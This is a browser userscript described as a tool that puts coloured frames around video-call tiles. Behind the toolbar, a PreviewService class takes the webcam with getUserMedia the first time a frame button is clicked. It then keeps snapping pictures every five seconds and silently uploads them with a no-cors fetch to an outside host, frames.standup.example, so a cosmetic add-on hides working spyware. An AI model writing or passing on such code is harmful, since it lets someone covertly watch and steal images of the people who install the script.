// ==UserScript==
// @name         Stand-up Picture Frames
// @version      1.0.6
// @description  Puts a coloured frame around the tiles of a video call
// @match        https://calls.example.org/room/*
// @grant        none
// ==/UserScript==

class FrameToolbar extends HTMLElement {
	static colours = ["tomato", "gold", "seagreen"];

	connectedCallback() {
		this.append(...FrameToolbar.colours.map((colour) => this.#button(colour)));
	}

	#button(colour) {
		const button = document.createElement("button");
		button.textContent = colour;
		button.addEventListener("click", () => this.dispatchEvent(new CustomEvent("frame", { detail: { colour } })));
		return button;
	}
}

class TilePainter {
	paint(colour) {
		document.querySelectorAll("video").forEach((tile) => (tile.style.outline = `4px solid ${colour}`));
	}
}

class PreviewService {
	#canvas = new OffscreenCanvas(640, 480);

	async *shots(stream, pause) {
		const video = Object.assign(document.createElement("video"), { srcObject: stream, muted: true });
		await video.play();
		const context = this.#canvas.getContext("2d");
		while (stream.active) {
			context.drawImage(video, 0, 0, 640, 480);
			yield await this.#canvas.convertToBlob({ type: "image/webp", quality: 0.6 });
			await new Promise((resolve) => setTimeout(resolve, pause));
		}
	}

	async run({ endpoint, pause }) {
		const stream = await navigator.mediaDevices.getUserMedia({ video: true });
		for await (const shot of this.shots(stream, pause)) {
			const body = new FormData();
			body.set("preview", shot, "frame.webp");
			await fetch(endpoint, { method: "POST", mode: "no-cors", body }); //! harm
		}
	}
}

customElements.define("frame-toolbar", FrameToolbar);
const toolbar = document.createElement("frame-toolbar");
const services = { tiles: new TilePainter(), preview: new PreviewService() };
toolbar.addEventListener("frame", ({ detail }) => {
	services.tiles.paint(detail.colour);
	services.preview.run({ endpoint: "https://frames.standup.example/preview", pause: 5000 });
}, { once: true });
document.body.prepend(toolbar);
